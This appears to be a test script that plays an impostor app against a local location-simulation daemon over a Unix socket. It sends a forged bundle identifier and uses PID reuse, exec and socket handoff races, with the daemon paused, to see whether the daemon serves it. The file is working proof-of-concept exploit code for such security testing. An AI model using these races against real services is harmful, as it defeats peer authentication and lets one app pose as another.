# SPDX-License-Identifier: MIT
"""Plays an app that wants to be taken for another one: attack.py NAME SOCKET DAEMON-PROCESS [COMMAND].

Prints what the daemon did with the attacker's Hello.
The daemon is stopped meanwhile, so that each race is won.
"""
import base64
import json
import os
import signal
import socket
import subprocess
import sys

name, path, daemon = sys.argv[1], sys.argv[2], int(sys.argv[3])
plist = (
    b'<plist version="1.0"><dict><key>CFBundleIdentifier</key><string>org.example.victim</string>'
    b"</dict></plist>"
)


def hello(peer):
    """Introduces the attacker, and returns the daemon's verdict."""
    content = base64.b64encode(plist).decode()
    call = {
        "method": "org.locsim.Location.Hello",
        "parameters": {
            "major": 1, "minor": 0, "library": "attack",
            "infoPlist": {"path": "/Info.plist", "content": content},
        },
    }
    try:
        peer.sendall(json.dumps(call).encode() + b"\0")
        answer = peer.recv(65536)
    except (BrokenPipeError, ConnectionResetError):
        return "refused"
    except OSError as error:
        return str(error)
    if not answer:
        return "refused"
    return "served" if b'"token"' in answer else "error"


def connect():
    peer = socket.socket(socket.AF_UNIX)
    peer.settimeout(20)
    peer.connect(path)
    return peer


def report(text):
    print(text, flush=True)


def stop():
    """Stops the daemon, and waits until all its threads have stopped."""
    os.kill(daemon, signal.SIGSTOP)
    tasks = f"/proc/{daemon}/task"
    for task in os.listdir(tasks):
        while open(f"{tasks}/{task}/stat").read().rpartition(")")[2].split()[0] != "T":
            os.sched_yield()


def impostor(enter, leave, speak):
    """Has a process connect and leave, and another one keep its socket.

    Returns the number of the former when it has left, and a function that has the latter speak.
    """
    reading, writing = os.pipe()
    waiting, done = os.pipe()
    leaving, staying = os.pipe()
    kept, keeping = os.pipe()
    attacker = os.fork()
    if attacker == 0:
        os.close(keeping)
        peer = connect()
        entered = enter(peer)
        if os.fork() == 0:
            for end in (writing, staying):
                os.close(end)
            os.read(reading, 1)
            report(speak(peer, entered))
            os.write(done, b"x")
            # Until the parent ends.
            os.read(kept, 1)
            os._exit(0)
        leave()
    os.close(staying)
    # The end of the pipe is closed when the process ends, or executes another program.
    os.read(leaving, 1)

    def let_speak():
        os.kill(daemon, signal.SIGCONT)
        os.write(writing, b"x")
        os.read(waiting, 1)

    return attacker, let_speak


def run_another_program():
    os.execv("/bin/sleep", ["sleep", "30"])


def reuse():
    """The connected process ends, and its number becomes another program's."""
    stop()
    attacker, let_speak = impostor(
        lambda peer: None, lambda: os._exit(0), lambda peer, _: hello(peer)
    )
    os.waitpid(attacker, 0)
    for _ in range(100):
        with open("/proc/sys/kernel/ns_last_pid", "w") as last:
            last.write(str(attacker - 1))
        victim = os.fork()
        if victim == 0:
            run_another_program()
        if victim == attacker:
            break
        os.kill(victim, signal.SIGKILL)
        os.waitpid(victim, 0)
    else:
        report("the number was not reused")
    let_speak()
    if victim == attacker:
        os.kill(victim, signal.SIGKILL)


def change():
    """The connected process executes another program, while another process has the socket."""
    stop()
    attacker, let_speak = impostor(
        lambda peer: None, run_another_program, lambda peer, _: hello(peer)
    )
    let_speak()
    # Shows what the daemon takes the attacker for.
    subprocess.run(sys.argv[4:], check=True)
    os.kill(attacker, signal.SIGKILL)


def handed():
    """The connected process ends, and another process has its socket."""

    def speak(peer, first):
        try:
            peer.sendall(b'{"method":"org.locsim.Location.GetState"}\0')
            answer = peer.recv(65536)
        except (BrokenPipeError, ConnectionResetError):
            answer = b""
        return f"{first}, then " + ("served" if b'"state"' in answer else "ended")

    attacker, let_speak = impostor(hello, lambda: os._exit(0), speak)
    os.waitpid(attacker, 0)
    let_speak()


{"reuse": reuse, "exec": change, "handed": handed}[name]()
